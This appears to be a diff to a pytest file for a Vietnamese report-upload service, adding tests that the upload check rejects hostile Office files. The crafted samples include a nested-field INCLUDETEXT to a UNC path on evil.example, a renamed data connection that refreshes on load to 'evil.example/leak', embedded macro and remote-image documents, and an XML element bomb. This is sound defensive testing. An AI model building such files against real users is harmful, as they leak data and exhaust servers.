@@ -645,6 +645,65 @@ OUTSIDE = [
 ]
 
 
+# Sixth probe: a field built by other fields, a data connection in a part of another name, packages inside the file
+# (a chart's workbook, an embedded document), and a file whose XML would take the server half a minute to read.
+CONNECTION_TYPES = PLAIN.replace(
+    "</Types>",
+    '<Override PartName="/xl/dulieu.xml" '
+    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/></Types>',
+)
+TOO_COMPLEX = "quá lớn hoặc quá phức tạp để kiểm tra"
+
+
+def with_package(inner: bytes, name="word/embeddings/Microsoft_Excel_Worksheet.xlsx") -> bytes:
+    """A .docx holding the package `inner`, as Word keeps a chart's workbook or an embedded document."""
+    outer = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(word(field_runs(" PAGE ")))) as source, zipfile.ZipFile(outer, "w") as out:
+        for member in source.infolist():
+            out.writestr(member, source.read(member))
+        out.writestr(name, inner)
+    return outer.getvalue()
+
+
+PACKAGES_AND_BUDGET = [
+    # { SET k "INCL" } { { REF k }UDETEXT "\\\\attacker\\s\\a.docx" }: the keyword is a nested field's result
+    (
+        "dat-ten.docx",
+        word(field_runs(' SET k "INCL" ') + field_runs((" REF k ",), 'UDETEXT "\\\\\\\\evil.example\\\\s\\\\a.docx" ')),
+        FETCH_REFUSED,
+    ),
+    (
+        "ket-noi-doi-ten.xlsx",
+        package(
+            {
+                "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
+                "xl/dulieu.xml": (
+                    '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+                    '<connection id="1" name="q" type="4" refreshOnLoad="1"><webPr url="http://evil.example/leak"/>'
+                    "</connection></connections>"
+                ),
+            },
+            CONNECTION_TYPES,
+        ),
+        FETCH_REFUSED,
+    ),
+    # a package inside: with macros, with a field that fetches, inside another package
+    ("nhung-docm.docx", with_package(docx_bytes(macros=True), "word/embeddings/a.docx"), "là tệp Office có macro"),
+    (
+        "nhung-truong.docx",
+        with_package(word(field_runs(' INCLUDEPICTURE "http://evil.example/a.png" '))),
+        FETCH_REFUSED,
+    ),
+    ("nhung-long.docx", with_package(with_package(word())), TOO_COMPLEX),
+    # 200 MB of empty elements in 200 kB: refused after READ_LIMIT of them, the worker freed within a second or so
+    (
+        "phan-tu.docx",
+        package({"word/document.xml": f"<w:document {W}/>", "word/media/el.xml": "<r>" + "<a/>" * 2_000_001 + "</r>"}),
+        TOO_COMPLEX,
+    ),
+]
+
+
 def assert_refused(client, cast, report, folder, name, content, message):
     """Uploaded with the report's text: refused next to the field, the text kept, nothing stored."""
     client.force_login(cast["canbo.ldtbxh"])
@@ -661,6 +720,21 @@ def test_it_refuses_what_opens_something_outside_and_keeps_the_text(
     client, cast, report, tmp_path, name, content, message
 ):
     assert_refused(client, cast, report, tmp_path, name, content, message)
+
+
+@pytest.mark.parametrize(("name", "content", "message"), PACKAGES_AND_BUDGET)
+def test_it_refuses_what_packages_hide_and_what_would_take_too_long_to_read(
+    client, cast, report, tmp_path, name, content, message
+):
+    assert_refused(client, cast, report, tmp_path, name, content, message)
+
+
+def test_a_chart_workbook_inside_a_document_is_read_and_accepted(client, cast, report):
+    """Word keeps a chart's figures as a workbook inside the document: a plain one passes."""
+    client.force_login(cast["canbo.ldtbxh"])
+    chart = with_package(workbook("SUM(A2:A9)"))
+    assert upload(client, report, "bieu-do.docx", chart).status_code == 302
+    assert Evidence.objects.get(entry__report=report).original_name == "bieu-do.docx"
 
 
 def with_hyperlinks(content):
